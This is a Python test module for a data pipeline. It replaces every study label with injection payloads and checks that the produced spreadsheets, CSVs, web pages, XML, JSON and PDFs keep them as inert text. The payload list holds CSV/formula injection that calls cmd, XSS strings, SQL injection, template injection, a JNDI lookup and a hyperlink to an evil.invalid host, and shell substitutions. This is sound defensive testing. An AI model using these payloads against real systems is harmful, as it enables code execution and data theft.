"""Every label of a study is an attack, through every stage: each product holds it as text and nothing runs."""

from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pikepdf
import pytest
import yaml
from lxml import etree

from pipeline.hashing import files_below
from pipeline.progress import Progress
from pipeline.project import Project
from pipeline.runner import Request, run_stages
from pipeline.yaml_files import read_yaml

#: What a template that ran would have printed: 7919 times 7907.
PRODUCT = "62615533"
PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/","a")',
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script><b onclick=alert(3)>",
    "{{ 7919 * 7907 }}{% for x in y %}{# z #}",
    '#panic("p") #import "x.typ" $x$ \\ "q" #(7919 * 7907)',
    "'; DROP TABLE estimates; -- \" OR 1=1",
    "]]><x>&e;</x><!DOCTYPE y>",
    "${jndi:ldap://evil.invalid/a} %s%n `id` $(id)",
    "javascript:alert(1)",
    "\ttab and \u202eturned\ufeff",
)


class Page(HTMLParser):
    """What a browser would see of a page: tags, attributes, and the text of scripts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.scripts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag == "script":
            self.scripts.append(str(dict(attrs).get("type") or ""))


def hostile(value: Any, count: list[int]) -> Any:
    """The same plain data with each text of a label (``es``, ``en``) replaced by the next payload."""
    if isinstance(value, dict):
        if set(value) == {"es", "en"} and all(isinstance(text, str) for text in value.values()):
            count[0] += 1
            one, other = (PAYLOADS[(count[0] + place) % len(PAYLOADS)] for place in (0, 6))
            return {"es": f"{one} es{count[0]}", "en": f"{other} en{count[0]}"}
        return {name: hostile(item, count) for name, item in value.items()}
    return [hostile(item, count) for item in value] if isinstance(value, list) else value


def finished(root: Path, folder: Path) -> Path:
    request = Request(Project(root), folder, folder, folder.parent / "build", "en")
    run_stages(request, "study", Progress(quiet=True))
    return folder.parent / "build" / "small_country"


@pytest.fixture(scope="module")
def attacked(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Results of a study whose every label is a payload."""
    folder = tmp_path_factory.mktemp("hostile") / "small_country"
    shutil.copytree(root / "tests" / "data" / "small_country", folder)
    count = [0]
    for name in ("study.yaml", "dictionary.yaml"):
        changed = hostile(read_yaml(folder / name).data, count)
        text = yaml.safe_dump(changed, allow_unicode=True, sort_keys=False, width=10_000)
        (folder / name).write_text(text, encoding="utf-8")
    assert 2 * count[0] > 3 * len(PAYLOADS)
    return finished(root, folder)


def products(folder: Path, *endings: str) -> list[Path]:
    return [path for path in files_below(folder) if path.suffix in endings]


def test_numbers_do_not_depend_on_labels(root: Path, attacked: Path, tmp_path: Path) -> None:
    plain = tmp_path / "small_country"
    shutil.copytree(root / "tests" / "data" / "small_country", plain)
    request = Request(Project(root), plain, plain, tmp_path / "build", "en")
    run_stages(request, "estimate", Progress(quiet=True))
    name = "small_country/estimate/estimates.csv"
    assert (attacked / "estimate" / "estimates.csv").read_bytes() == (tmp_path / "build" / name).read_bytes()


def test_workbooks_hold_no_formula_and_lead_nowhere(attacked: Path) -> None:
    found = products(attacked, ".xlsx")
    assert found
    held = ""
    for path in found:
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                assert "externalLink" not in name and "vba" not in name.lower() and "macro" not in name.lower()
                text = book.read(name).decode("utf-8", errors="replace")
                assert not re.search(r"<f[ >]|<ddeLink|<!DOCTYPE|<!ENTITY", text), f"{path.name} {name}"
                assert 'TargetMode="External"' not in text
                held += text
    assert "=HYPERLINK(" in held  # it is there, as text


def test_text_cells_of_csv_files_start_no_formula(attacked: Path) -> None:
    found = products(attacked, ".csv")
    assert found
    for path in found:
        with path.open(encoding="utf-8", newline="") as stream:
            for cell in (cell for row in csv.reader(stream) for cell in row):
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # a number, or a text that a spreadsheet would run


def test_pages_run_nothing_of_a_label(attacked: Path) -> None:
    found = products(attacked, ".html")
    assert len(found) >= 4
    for path in found:
        text = path.read_text(encoding="utf-8")
        page = Page(text)
        assert "img" not in page.tags and PRODUCT not in text, path.name
        assert not [name for name, _ in page.attributes if name.startswith("on")], path.name
        assert not [value for name, value in page.attributes
                    if name in ("href", "src", "action") and re.match(r"\s*(javascript|https?://evil)", value)]
        assert "<script>alert" not in text and "</script><script>" not in text
        assert "Content-Security-Policy" in text


def test_data_for_programs_stays_well_formed(attacked: Path) -> None:
    for path in products(attacked, ".json", ".jsonld"):
        json.loads(path.read_text(encoding="utf-8"))
    for path in products(attacked, ".xml"):
        assert b"<!DOCTYPE" not in path.read_bytes()[:500]
        etree.fromstring(path.read_bytes(), etree.XMLParser(resolve_entities=False, no_network=True))
    assert products(attacked, ".xml") and products(attacked, ".json")


def test_documents_hold_no_action_and_computed_nothing(attacked: Path) -> None:
    found = products(attacked, ".pdf")
    assert found
    for path in found:
        with pikepdf.open(path) as pdf:
            for item in pdf.objects:
                if not isinstance(item, pikepdf.Dictionary):
                    continue
                assert not {"/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/AA"} & set(item.keys()), path.name
                assert "evil.invalid" not in str(item.get("/URI", "")), path.name
            assert PRODUCT.encode() not in pdf.Root.Metadata.read_bytes()
